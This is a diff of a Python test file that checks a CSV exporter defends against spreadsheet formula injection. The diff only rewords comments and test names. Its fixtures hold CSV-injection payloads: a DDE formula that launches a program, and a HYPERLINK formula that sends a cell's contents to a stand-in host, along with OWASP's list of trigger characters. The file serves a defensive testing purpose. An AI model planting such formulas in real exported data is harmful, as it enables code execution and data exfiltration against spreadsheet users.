@@ -1,4 +1,4 @@
-"""CSV: cells come back as they were, and a spreadsheet computes none of them."""
+"""CSV: cells are read back unchanged, and a spreadsheet runs none of them as a formula."""
 
 from __future__ import annotations
 
@@ -16,9 +16,9 @@ from octavo.documents.csv_tables import format_csv as format_table
 from tests.reading import read_csv
 from tests.rows import hostile_texts, make_row
 
-# What OWASP's page "CSV Injection" lists.
+# The characters that OWASP's page "CSV Injection" lists.
 TRIGGERS = "=+-@\t\r\n＝＋－＠"
-# Formulas of published reports: a program started, a cell sent away, a sign to hide behind.
+# Formulas from published reports: they start a program, send a cell away, or hide behind a sign.
 FORMULAS = [
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("https://x.example/?a="&A1;"Error")',
@@ -36,28 +36,28 @@ def as_spreadsheet(text: str) -> list[list[str]]:
 
 
 @pytest.mark.parametrize("sign", TRIGGERS, ids=ascii)
-def test_no_cell_begins_with_a_sign_of_a_formula(sign: str) -> None:
+def test_no_cell_begins_like_a_formula(sign: str) -> None:
     assert as_spreadsheet(write_csv(["a"], [[f"{sign}1+1"]]))[1] == [f"'{sign}1+1"]
 
 
 @pytest.mark.parametrize("formula", FORMULAS)
 def test_both_exports_show_formulas_as_text(formula: str) -> None:
-    """A title that is a formula is text in the publications' spreadsheet and in the tables' files."""
+    """A title that looks like a formula is text in the spreadsheet of publications and in the files of tables."""
     row = make_row(title=formula, topics=(formula, formula), venue=formula)
     for text in (format_csv([row]), format_table([row])):
         assert [cell for line in as_spreadsheet(text) for cell in line if cell.startswith(tuple(TRIGGERS))] == []
-        assert text.startswith('"'), "every cell is quoted, so that no separator in it begins another"
+        assert text.startswith('"'), "every cell must be quoted, so that no separator in it starts another"
 
 
 @given(st.lists(st.lists(hostile_texts | st.text(alphabet="'=+-@＝\t\r\n,\"a"), min_size=2, max_size=2), max_size=5))
-def test_what_is_written_comes_back(rows: list[list[str]]) -> None:
-    """Apostrophes that a text had before are still there, and only those."""
+def test_cells_are_read_back_unchanged(rows: list[list[str]]) -> None:
+    """Apostrophes of the original text are kept, and no others."""
     assert [list(row.values()) for row in read_csv(write_csv(["a", "b"], rows))] == rows
 
 
 @given(hostile_texts)
-def test_an_ordinary_text_is_left_alone(text: str) -> None:
-    """Only a text that begins like a formula gets an apostrophe: nobody else's cells change."""
+def test_ordinary_text_is_unchanged(text: str) -> None:
+    """Only text that begins like a formula gets an apostrophe."""
     if not text.lstrip("'").startswith(tuple(TRIGGERS)):
         assert as_spreadsheet(write_csv(["a"], [[text]]))[1] == [text]
 
@@ -68,8 +68,8 @@ def test_a_number_is_not_a_formula(number: str) -> None:
     assert as_spreadsheet(write_csv(["a"], [[f"{number}+1"]]))[1] == [f"'{number}+1"]
 
 
-def test_there_is_one_writer() -> None:
-    """Whatever else writes CSV would have to remember the rule."""
+def test_there_is_only_one_writer() -> None:
+    """Any other code that writes CSV would have to follow the rule too."""
     package = Path(__file__).parents[1] / "src/octavo"
     found = [file.name for file in package.rglob("*.py") if "csv.writer" in file.read_text(encoding="utf-8")]
     assert found == ["csv_text.py"]
